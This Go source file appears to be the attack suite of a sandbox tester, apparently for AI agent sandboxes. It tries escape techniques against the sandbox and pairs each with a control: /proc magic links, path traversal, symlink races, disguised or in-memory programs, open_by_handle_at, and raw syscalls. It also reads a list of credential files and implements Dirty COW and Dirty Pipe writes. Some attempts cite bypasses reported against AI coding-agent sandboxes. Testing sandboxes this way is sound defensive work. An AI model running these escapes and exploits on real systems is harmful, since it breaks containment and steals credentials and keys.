package attacker

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// read brings a file's content. An empty result counts as refused.
func (e *Env) read(path string) error {
	f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	b := make([]byte, 4096)
	n, err := f.Read(b)
	if n == 0 && (err == nil || err == io.EOF) {
		return errors.New("empty")
	}
	if err != nil {
		return err
	}
	e.bring(b[:n])
	return nil
}

func list(path string) error {
	ents, err := os.ReadDir(path)
	if err == nil && len(ents) == 0 {
		err = errors.New("empty")
	}
	return err
}

// rewrite writes a file's own content back: that proves as much as another value, and does
// no harm if it succeeds.
func rewrite(path string) error {
	old, _ := os.ReadFile(path)
	if len(old) == 0 {
		old = []byte("h")
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.Write(old)
	return err
}

func (e *Env) allowed() string { return e.Workspace + "/a.txt" }

func readAllowed(e *Env) error { return e.read(e.allowed()) }

// readWith returns a control: it reads an allowed file in the same way.
func readWith(f func(e *Env, path string) error) func(*Env) error {
	return func(e *Env) error {
		c := &Env{World: e.World}
		if err := f(c, e.allowed()); err != nil {
			return err
		}
		if !bytes.Contains(c.evidence, []byte("hello")) {
			return fmt.Errorf("read %q", clip(string(c.evidence)))
		}
		return nil
	}
}

func readSecret(f func(e *Env, path string) error) func(*Env) error {
	return func(e *Env) error { return f(e, e.Secret) }
}

const absent = "it is absent, not masked: only what the plan names is mounted"

// by returns an attack that reads the secret in one way, with a control that reads an
// allowed file in the same way.
func by(id, how, defence, source string, f func(e *Env, path string) error) Attack {
	return Attack{ID: id, How: how, Defence: defence, Source: source, Judge: ByToken, Try: readSecret(f), Control: readWith(f)}
}

func hostFiles() []Attack {
	return family("host-files", "S1", slices.Concat(hostFilesByPath(), hostFilesByProgram(), hostFilesByCall(), hostSearches(), hostWrites())...)
}

// hostFilesByPath returns the attacks that write the path of a file in another way, or link to it.
func hostFilesByPath() []Attack {
	return []Attack{
		by("by-path", "Read a world-readable file of the host by its absolute path.", absent, "", (*Env).read),
		by("proc-self-root", "Read it as /proc/self/root/PATH, which name checks don't know.", "a kernel boundary, not a list of names", "Claude Code (Ona)",
			func(e *Env, p string) error { return e.read("/proc/self/root" + p) }),
		by("proc-magic-links", "Go through the magic links of processes: root, cwd, fd and map_files of all that are seen.", "the links of the kernel inside lead to its own files", "Claude Code (Ona)",
			func(e *Env, p string) error {
				var tries []try
				links, _ := filepath.Glob("/proc/[0-9]*/fd/*")
				for _, l := range append(links, "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/thread-self/root", "/proc/self/task/../root") {
					tries = append(tries, try{l, func() error { return e.read(l + p) }})
				}
				return e.any(tries...)
			}),
		by("dot-dot", "Climb with more .. than there are directories, from the workspace and from open directories.", "the root is the bottle's own", "",
			func(e *Env, p string) error {
				up := strings.Repeat("../", 40)
				return e.any(
					try{"relative", func() error { return e.read(e.Workspace + "/" + up + p[1:]) }},
					try{"cwd", func() error { return e.read("/proc/self/cwd/" + up + p[1:]) }},
					try{"openat", func() error {
						d, err := unix.Open(e.Workspace, unix.O_PATH|unix.O_DIRECTORY, 0)
						if err != nil {
							return err
						}
						defer unix.Close(d)
						fd, err := unix.Openat(d, up+p[1:], unix.O_RDONLY, 0)
						if err != nil {
							return err
						}
						defer unix.Close(fd)
						return e.read(fmt.Sprintf("/proc/self/fd/%d", fd))
					}},
				)
			}),
		{ID: "planted-links", How: "Follow symbolic links that were in the workspace before: to the file, to its directory, to /, relative.",
			Defence: "links are followed inside, where their target is absent", Source: "CVE-2026-39861", Judge: ByToken, Control: func(e *Env) error { return e.read(e.Workspace + "/link-to-allowed") },
			Try: func(e *Env) error {
				return e.any(each([]string{"link-to-secret", "relative-link", "link-to-dir/" + filepath.Base(e.Secret), "root-link" + e.Secret}, func(p string) error { return e.read(e.Workspace + "/" + p) })...)
			}},
		by("own-links", "Make links to it, symbolic and hard, and read those.", "links made inside lead inside", "", func(e *Env, p string) error {
			d, err := os.MkdirTemp(e.Workspace, "links")
			if err != nil {
				return cannot("%v", err)
			}
			return e.any(
				try{"symbolic", func() error {
					if err := os.Symlink(p, d+"/s"); err != nil {
						return err
					}
					return e.read(d + "/s")
				}},
				try{"hard", func() error {
					if err := os.Link(p, d+"/h"); err != nil {
						return err
					}
					return e.read(d + "/h")
				}},
				try{"linkat", func() error {
					if err := unix.Linkat(unix.AT_FDCWD, p, unix.AT_FDCWD, d+"/f", unix.AT_SYMLINK_FOLLOW); err != nil {
						return err
					}
					return e.read(d + "/f")
				}},
			)
		}),
		by("racing-links", "Exchange a directory with a link to the file's directory, thousands of times, while another thread opens through it.", "each path is resolved by one kernel, in its own file system", "OpenShell PR#352", raceLinks),
	}
}

// hostFilesByProgram returns the attacks in which a disguised program reads the file.
func hostFilesByProgram() []Attack {
	return []Attack{
		by("loader", "Start a program through the dynamic loader, so that its name is not the one that is checked.", "no decision rests on a program's name", "Claude Code (Ona)",
			func(e *Env, p string) error {
				for _, l := range []string{"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1", "/lib/ld-musl-x86_64.so.1"} {
					if _, err := os.Stat(l); err == nil {
						return e.command(nil, l, "/bin/cat", p)
					}
				}
				return cannot("no dynamic loader is known here")
			}),
		by("renamed-shell", "Copy the shell under an innocent name and let that read it.", "no decision rests on a program's name", "Claude Code (Ona), OpenShell PR#1496",
			func(e *Env, p string) error {
				sh, err := copyProgram(e, "/bin/sh", "notes.txt")
				if err != nil {
					return err
				}
				return e.command(nil, sh, "-c", `while read -r line || [ -n "$line" ]; do echo "$line"; done < "$0"`, p)
			}),
		by("memfd-exec", "Run a program that exists in memory only.", "the kernel's walls hold for every program", "",
			func(e *Env, p string) error {
				return runFromMemory(e, "/bin/cat", p)
			}),
		by("deleted-program", "Run a program that deletes its own file first.", "the kernel's walls hold for every program", "",
			func(e *Env, p string) error {
				sh, err := copyProgram(e, "/bin/sh", "gone")
				if err != nil {
					return err
				}
				return e.command(nil, sh, "-c", `rm "$0" && test ! -e "$0" && while read -r line || [ -n "$line" ]; do echo "$line"; done < "$1"`, sh, p)
			}),
	}
}

// hostFilesByCall returns the attacks that open a file by unusual arguments and system calls.
func hostFilesByCall() []Attack {
	return []Attack{
		by("long-path", "Write its path with thousands of dots, up to the 4,096 bytes that a path may have.", absent, "",
			func(e *Env, p string) error {
				n := (unix.PathMax - 1 - len(p)) / 2
				return e.read(strings.Repeat("/.", n) + p)
			}),
		by("foreign-system-calls", "Open it with 32-bit (int 0x80) and x32 system calls from a static program without a libc.", "other calling conventions are not served, or reach the same kernel", "",
			rawCalls),
		{ID: "file-handle", How: "Open it by a handle made of its inode number, on the file system that the workspace lies on.", Defence: "open_by_handle_at does not exist inside", Source: "shocker (Docker)", Judge: ByToken,
			Control: readAllowed, Try: openByHandle},
	}
}

// hostSearches returns the attacks that search for the host's files.
func hostSearches() []Attack {
	return []Attack{
		{ID: "environment", How: "Look for a secret in the variables that carboy itself was started with.", Defence: "the environment inside is built anew", Judge: ByToken,
			Control: func(*Env) error {
				if os.Getenv("HOME") == "" {
					return errors.New("no HOME")
				}
				return nil
			},
			Try: func(e *Env) error {
				e.bring([]byte(strings.Join(os.Environ(), "\n")))
				env, _ := filepath.Glob("/proc/[0-9]*/environ")
				return e.any(each(env, e.read)...)
			}},
		{ID: "search", How: "Search every directory, /proc and /dev included, for a text that is planted on the host.", Defence: absent, Judge: ByToken,
			Control: func(e *Env) error { return e.search(e.Workspace, "findme") },
			Try: func(e *Env) error {
				return e.any(each([]string{"/home", "/root", "/tmp", "/var", "/run", "/mnt", "/media", "/opt", "/srv", "/dev", "/proc", "/etc", "/.carboy"}, func(dir string) error { return e.search(dir, reverse(e.Marker)) })...)
			}},
		{ID: "well-known-secrets", How: "Read keys, password hashes and credentials where every system has them.", Defence: absent, Source: "sandy R3", Judge: ByWord,
			Control: func(e *Env) error { return e.read("/etc/passwd") },
			Try: func(e *Env) error {
				return e.any(each([]string{
					"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key", "/root/.ssh/id_ed25519", "/root/.ssh/id_rsa", "/root/.bash_history", "/root/.aws/credentials",
					"/root/.config/gh/hosts.yml", "/root/.netrc", "/var/lib/dpkg/status", "/var/log/syslog", "/boot/grub/grub.cfg", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf",
				}, e.read)...)
			}},
		{ID: "host-directories", How: "List the places where other users' and services' data lie.", Defence: absent, Judge: ByWord,
			Control: func(*Env) error { return list("/usr/bin") },
			Try: func(e *Env) error {
				return e.any(each([]string{"/root", "/boot", "/srv", "/opt", "/media", "/mnt", "/var/spool", "/var/lib", "/run/systemd", "/lost+found", "/sys/firmware/efi"}, list)...)
			}},
	}
}

// hostWrites returns the attacks that change a file of the host.
func hostWrites() []Attack {
	return []Attack{
		{ID: "read-only-mount", Promise: "S1", How: "Write to a file shown read-only: by opening, truncating, renaming, mapping it shared, and by its descriptor.", Defence: "the mount is read-only in the gofer and in the kernel inside", Judge: ByHost,
			Control: func(e *Env) error { return e.read(e.ReadOnly + "/given") }, Try: writeReadOnly},
	}
}

func copyProgram(e *Env, from, name string) (string, error) {
	b, err := os.ReadFile(from)
	if err != nil {
		return "", cannot("%v", err)
	}
	d, err := os.MkdirTemp(e.Workspace, "prog")
	if err != nil {
		return "", cannot("%v", err)
	}
	if err := os.WriteFile(d+"/"+name, b, 0o755); err != nil {
		return "", cannot("%v", err)
	}
	return d + "/" + name, nil
}

// runFromMemory runs a copy of a program that has no file.
func runFromMemory(e *Env, program string, args ...string) error {
	code, err := os.ReadFile(program)
	if err != nil {
		return cannot("%v", err)
	}
	fd, err := unix.MemfdCreate("x", 0)
	if err != nil {
		return cannot("%v", err)
	}
	f := os.NewFile(uintptr(fd), "x")
	defer f.Close()
	if _, err := f.Write(code); err != nil {
		return cannot("%v", err)
	}
	return e.command(nil, fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd), args...)
}

// search brings every file below root that has text near its beginning.
func (e *Env) search(root, text string) error {
	err := errors.New("not found")
	filepath.WalkDir(root, func(path string, d os.DirEntry, werr error) error {
		if werr != nil {
			return nil
		}
		if strings.Contains(path, "/proc/") && d.IsDir() && strings.Count(path, "/") > 4 {
			return filepath.SkipDir
		}
		if !d.Type().IsRegular() && d.Type()&os.ModeSymlink == 0 {
			return nil
		}
		switch filepath.Base(path) {
		case "kmsg", "clear_refs", "pagemap", "mem":
			return nil
		}
		fi, serr := os.Stat(path)
		if serr != nil || !fi.Mode().IsRegular() || fi.Size() > 8<<20 {
			return nil
		}
		f, oerr := os.Open(path)
		if oerr != nil {
			return nil
		}
		defer f.Close()
		buf := make([]byte, 64<<10)
		n, _ := f.Read(buf)
		if i := bytes.Index(buf[:n], []byte(text)); i >= 0 {
			e.bring(buf[i:min(n, i+200)])
			err = nil
			return filepath.SkipAll
		}
		return nil
	})
	return err
}

// raceLinks reads dir/name while dir changes between a directory and a link.
func raceLinks(e *Env, path string) error {
	base, err := os.MkdirTemp(e.Workspace, "race")
	if err != nil {
		return cannot("%v", err)
	}
	name := filepath.Base(path)
	for _, err := range []error{os.Mkdir(base+"/x", 0o755), os.WriteFile(base+"/x/"+name, []byte("a file of our own"), 0o644), os.Symlink(filepath.Dir(path), base+"/y")} {
		if err != nil {
			return cannot("%v", err)
		}
	}
	var stop atomic.Bool
	done := make(chan int)
	go func() { // ends with stop
		n := 0
		for ; !stop.Load(); n++ {
			if unix.Renameat2(unix.AT_FDCWD, base+"/x", unix.AT_FDCWD, base+"/y", unix.RENAME_EXCHANGE) != nil {
				// Not every kernel exchanges: two renames leave a moment without.
				os.Rename(base+"/x", base+"/z")
				os.Rename(base+"/y", base+"/x")
				os.Rename(base+"/z", base+"/y")
			}
		}
		done <- n
	}()
	got, opened := errors.New("only its own file"), 0
	for end := time.Now().Add(300 * time.Millisecond); time.Now().Before(end) && got != nil; {
		b, err := os.ReadFile(base + "/x/" + name)
		if err != nil {
			continue
		}
		if opened++; string(b) != "a file of our own" {
			e.bring(b)
			got = nil
		}
	}
	stop.Store(true)
	if n := <-done; got != nil && (n < 20 || opened == 0) {
		return cannot("%d exchanges and %d reads are no race", n, opened)
	}
	return got
}

func openByHandle(e *Env) error {
	ws, err := unix.Open(e.Workspace, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return cannot("%v", err)
	}
	defer unix.Close(ws)
	b := binary.LittleEndian.AppendUint32(nil, uint32(e.SecretIno))
	short := unix.NewFileHandle(1, binary.LittleEndian.AppendUint32(slices.Clone(b), 0))
	long := unix.NewFileHandle(0x81, append(binary.LittleEndian.AppendUint64(nil, e.SecretIno), 0, 0, 0, 0))
	return e.any(each([]unix.FileHandle{short, long}, func(h unix.FileHandle) error {
		fd, err := unix.OpenByHandleAt(ws, h, unix.O_RDONLY)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return e.read(fmt.Sprintf("/proc/self/fd/%d", fd))
	})...)
}

// writeReadOnly tries to change a file of the host, which the host checks afterwards. A kernel
// may answer success where nothing changed: that is none.
func writeReadOnly(e *Env) error {
	p := e.ReadOnly + "/given"
	changed := func(err error) error {
		fi, serr := os.Stat(p)
		b, rerr := os.ReadFile(p)
		if err = errors.Join(err, serr, rerr); err == nil && len(b) > 0 && fi.Mode()&os.ModeSetuid == 0 {
			err = errors.New("the answer is success, and nothing changed")
		}
		return err
	}
	return e.any(
		try{"open", func() error { return os.WriteFile(p, []byte("owned"), 0o644) }},
		try{"truncate", func() error { return changed(os.Truncate(p, 0)) }},
		try{"remove", func() error { return os.Remove(p) }},
		try{"create", func() error { return os.WriteFile(e.ReadOnly+"/planted", []byte("owned"), 0o644) }},
		try{"rename", func() error { return os.Rename(p, e.ReadOnly+"/renamed") }},
		try{"chmod", func() error { return changed(os.Chmod(p, os.ModeSetuid|0o777)) }},
		try{"descriptor", func() error {
			fd, err := unix.Open(p, unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return os.WriteFile(fmt.Sprintf("/proc/self/fd/%d", fd), []byte("owned"), 0o644)
		}},
		try{"shared map", func() error {
			fd, err := unix.Open(p, unix.O_RDONLY, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			m, err := unix.Mmap(fd, 0, 5, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
			if err != nil {
				return err
			}
			copy(m, "owned")
			return unix.Munmap(m)
		}},
		try{"/proc/self/mem (dirty COW)", func() error { return throughMemory(p) }},
		try{"splice (dirty pipe)", func() error { return throughPipe(p) }},
	)
}

// throughMemory writes to a private read-only map by /proc/self/mem, racing
// with madvise, as CVE-2016-5195 did.
func throughMemory(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	m, err := unix.Mmap(fd, 0, 5, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return err
	}
	defer unix.Munmap(m)
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer mem.Close()
	at := addressOf(m)
	for range 200 {
		unix.Madvise(m, unix.MADV_DONTNEED)
		if _, err := mem.WriteAt([]byte("owned"), int64(at)); err != nil {
			return err
		}
	}
	b, err := os.ReadFile(path)
	if err == nil && !bytes.HasPrefix(b, []byte("owned")) {
		err = errors.New("the file is as it was")
	}
	return err
}

// throughPipe writes into a page that splice put into a pipe, as CVE-2022-0847
// did.
func throughPipe(path string) error {
	fd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	p := make([]int, 2)
	if err := unix.Pipe2(p, unix.O_NONBLOCK); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	full := make([]byte, 64<<10)
	n, err := unix.Write(p[1], full)
	if err != nil {
		return err
	}
	for left := n; left > 0; left -= n {
		if n, err = unix.Read(p[0], full); err != nil {
			return err
		}
	}
	var off int64
	if _, err := unix.Splice(fd, &off, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte("owned")); err != nil {
		return err
	}
	b, err := os.ReadFile(path)
	if err == nil && bytes.Contains(b, []byte("owned")) {
		return nil
	}
	return errors.Join(err, errors.New("the file is as it was"))
}

// rawCalls opens path with system calls of other calling conventions.
func rawCalls(e *Env, path string) error {
	var tries []try
	for _, c := range conventions() {
		tries = append(tries, try{c.name, func() error {
			d, err := os.MkdirTemp(e.Workspace, "raw")
			if err != nil {
				return cannot("%v", err)
			}
			if err := os.WriteFile(d+"/raw", readerELF(c.code, path), 0o755); err != nil {
				return cannot("%v", err)
			}
			out, err := exec.Command(d + "/raw").Output()
			e.bring(out)
			if err == nil && len(out) == 0 {
				err = errors.New("nothing was read")
			}
			return err
		}})
	}
	return e.any(tries...)
}
